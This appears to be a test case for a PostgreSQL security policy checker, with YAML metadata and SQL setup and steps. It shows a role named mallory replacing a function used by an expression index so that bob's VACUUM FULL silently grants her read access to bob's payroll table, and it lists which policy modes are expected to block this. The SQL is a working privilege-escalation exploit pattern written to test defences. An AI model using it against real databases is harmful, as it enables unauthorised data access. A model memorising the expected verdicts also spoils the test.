/*---
title: Expression index rebuilt by VACUUM FULL as the table owner
pattern: Maintenance runs index expressions as the table owner; a function another role may replace turns it against that owner
description: >
  bob's orders table has an expression index over mallory.order_bucket(), a helper from the shared
  schema mallory maintains; mallory later replaces its body. A plain VACUUM removes index entries by
  heap position and never evaluates the expression, but VACUUM FULL rewrites the table and rebuilds
  every index: when bob reclaims space with VACUUM FULL, mallory's code runs with bob's rights and
  grants her read access to bob's payroll table.
roles:
  bob: {}
  mallory: {}
reality:
  query: SELECT has_table_privilege('mallory', 'bob.payroll', 'SELECT')
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: GRANT
        culprit: {kind: function, object: mallory.order_bucket(integer), owner: mallory, phase: maintenance}
  no-untrusted-code-as-superuser: allowed
  sandbox-untrusted:
    blocked:
      - command: GRANT
        culprit: {kind: function, object: mallory.order_bucket(integer), owner: mallory, phase: maintenance}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.order_bucket(integer), owner: mallory, phase: maintenance}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.order_bucket(integer), owner: mallory, phase: maintenance}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.order_bucket(integer), owner: mallory, phase: maintenance}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.order_bucket(integer), owner: mallory, phase: maintenance}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
CREATE SCHEMA bob AUTHORIZATION bob;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.order_bucket(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RETURN i / 100;
END $$;
RESET ROLE;
SET ROLE bob;
CREATE TABLE bob.payroll(employee text, salary numeric);
CREATE TABLE bob.orders(id integer, amount numeric);
INSERT INTO bob.orders SELECT g, g * 1.5 FROM generate_series(1, 20) g;
CREATE INDEX orders_bucket ON bob.orders (mallory.order_bucket(id));
DELETE FROM bob.orders WHERE id % 2 = 0;
RESET ROLE;

-- @step mallory
CREATE FUNCTION mallory.f_grab() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    GRANT SELECT ON bob.payroll TO mallory;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE OR REPLACE FUNCTION mallory.order_bucket(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_grab();
    RETURN i / 100;
END $$;

-- @step bob
VACUUM bob.orders;
VACUUM FULL bob.orders;
